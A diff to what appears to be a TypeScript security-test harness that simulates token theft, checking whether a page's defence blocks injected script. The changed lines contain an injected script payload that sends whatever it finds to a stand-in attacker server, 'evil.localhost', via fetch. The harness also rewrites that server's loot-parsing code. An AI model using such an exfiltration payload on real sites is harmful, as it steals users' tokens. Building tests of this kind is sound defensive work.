@@ -49,13 +49,14 @@ export function tokenTheft(theft: Theft): Attack {
 async function steal(stage: Stage, { keep, find, defence }: Theft): Promise<Outcome> {
   let loot = ''
   const port = await stage.serve('attacker', (request, response) => {
-    loot = decodeURIComponent((request.url ?? '').slice('/?'.length))
+    const { pathname, searchParams } = new URL(request.url ?? '/', 'http://attacker')
+    if (pathname === '/loot') loot = searchParams.get('found') ?? ''
     response.writeHead(204, { 'Access-Control-Allow-Origin': '*' }).end()
   })
   const inScript = defence === undefined || !stage.has(defence.id)
   const note = `<script>window.searched = (async () => {
   const found = await ${find}
-  if (found) await fetch('http://evil.localhost:${port}/?' + encodeURIComponent(found))
+  if (found) await fetch('http://evil.localhost:${port}/loot?found=' + encodeURIComponent(found))
 })()</script>`
   const target = await stage.open({
     present: 'both',
@@ -84,6 +85,7 @@ async function showToken(token: string): Promise<{ readonly status: number; read
 /** In the browser: until the page has signed in, and the script in the note, if it runs, has done what it can. */
 async function untilSearched(): Promise<void> {
   const page = globalThis as unknown as Readonly<Record<'signedIn' | 'searched', Promise<unknown> | undefined>>
+  if (page.signedIn === undefined) throw new Error('the own script of the page did not run')
   await page.signedIn
   await page.searched
 }
